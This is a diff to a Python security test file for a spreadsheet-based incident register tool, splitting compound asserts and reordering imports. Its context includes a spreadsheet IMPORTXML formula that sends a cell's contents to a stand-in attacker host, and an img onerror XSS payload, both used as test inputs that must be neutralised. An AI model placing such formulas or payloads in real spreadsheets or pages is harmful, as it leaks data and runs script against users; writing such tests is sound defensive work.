@@ -15,18 +15,18 @@ from pathlib import Path
 
 import openpyxl
 import pytest
-from tests.conftest import AS_OF, action_row, incident_row, tables, write_workbook
 
 from pmsheets import config as config_module
 from pmsheets.cli.main import main
-from sheets_emulator import DEFAULT_EMAIL, SheetsEmulator
+from pmsheets.core.overdue import find_overdue, overdue_report
+from pmsheets.core.policy import Policy
+from pmsheets.core.schema import FINDINGS_HEADERS, parse
 from pmsheets.errors import ConfigError
 from pmsheets.outputs.mail import Outgoing, build_message, tls_context
-from pmsheets.core.policy import Policy
-from pmsheets.register.google_session import EndpointSession
 from pmsheets.outputs.report_render import render
-from pmsheets.core.overdue import find_overdue, overdue_report
-from pmsheets.core.schema import FINDINGS_HEADERS, parse
+from pmsheets.register.google_session import EndpointSession
+from sheets_emulator import DEFAULT_EMAIL, SheetsEmulator
+from tests.conftest import AS_OF, action_row, incident_row, tables, write_workbook
 
 FORMULA = '=IMPORTXML("https://evil.example/?leak="&A1,"//a")'
 INCIDENT_COLUMN = FINDINGS_HEADERS.index("Incident")
@@ -162,7 +162,8 @@ def test_report_email_shows_register_markup_as_text() -> None:
         )
     ).register
     html = render(overdue_report(find_overdue(register, as_of=AS_OF, policy=Policy()))).html
-    assert "<img" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
+    assert "<img" not in html
+    assert "&lt;img src=x onerror=alert(1)&gt;" in html
 
 
 def test_subject_with_line_breaks_cannot_add_a_mail_header() -> None:
@@ -194,7 +195,8 @@ def test_config_error_names_the_key_but_never_shows_a_secret(tmp_path: Path, yam
     config.write_text(yaml, encoding="utf-8")
     with pytest.raises(ConfigError) as raised:
         config_module.load(config)
-    assert "key '" in str(raised.value) and SECRET not in str(raised.value)
+    assert "key '" in str(raised.value)
+    assert SECRET not in str(raised.value)
 
 
 @pytest.fixture
@@ -211,8 +213,10 @@ def test_json_output_and_errors_never_show_the_private_key(emulator: SheetsEmula
     _, out, _ = run("--config", config, "validate", "--as-of", AS_OF.isoformat(), "--format", "json")
     emulator.store.unshare(key, DEFAULT_EMAIL)
     code, _, err = run("--config", config, "validate", "--as-of", AS_OF.isoformat(), "--format", "json")
-    assert code == 2 and DEFAULT_EMAIL in err
-    assert "PRIVATE KEY" not in out + err and key_in_environment not in out + err
+    assert code == 2
+    assert DEFAULT_EMAIL in err
+    assert "PRIVATE KEY" not in out + err
+    assert key_in_environment not in out + err
 
 
 @pytest.mark.parametrize("log_format", ["text", "json"])
@@ -221,8 +225,10 @@ def test_worker_log_never_shows_the_private_key(emulator: SheetsEmulator, tmp_pa
     emulator.store.unshare(key, DEFAULT_EMAIL)
     config = google_project(emulator, tmp_path, key, credentials="credentials_env: PMSHEETS_TEST_KEY")
     code, out, err = run("--config", config, "run", "--as-of", AS_OF.isoformat(), "--log-format", log_format)
-    assert code == 2 and DEFAULT_EMAIL in err
-    assert "PRIVATE KEY" not in out + err and key_in_environment not in out + err
+    assert code == 2
+    assert DEFAULT_EMAIL in err
+    assert "PRIVATE KEY" not in out + err
+    assert key_in_environment not in out + err
 
 
 @pytest.mark.parametrize(
@@ -239,7 +245,8 @@ def test_bad_key_file_is_named_but_its_content_never_shown(tmp_path: Path, conte
     (tmp_path / "pmsheets.yaml").write_text("register:\n  backend: google\n  spreadsheet: k\n  credentials: key.json\n", encoding="utf-8")
     code, out, err = run("--config", str(tmp_path / "pmsheets.yaml"), "validate")
     assert (code, out) == (2, "")
-    assert str(tmp_path / "key.json") in err and "TOPSECRETKEYBODY" not in err
+    assert str(tmp_path / "key.json") in err
+    assert "TOPSECRETKEYBODY" not in err
 
 
 # --- TLS -----------------------------------------------------------------------------------------
@@ -249,7 +256,8 @@ def test_smtp_verifies_the_certificate_and_host_name_by_default(tmp_path: Path) 
     config = tmp_path / "pmsheets.yaml"
     config.write_text("mail:\n  transport: smtp\n  smtp:\n    host: smtp.example.com\n", encoding="utf-8")
     settings = config_module.load(config).mail.smtp
-    assert settings is not None and settings.security == "starttls"
+    assert settings is not None
+    assert settings.security == "starttls"
     context = tls_context(settings)
     assert (context.verify_mode, context.check_hostname) == (ssl.CERT_REQUIRED, True)
 
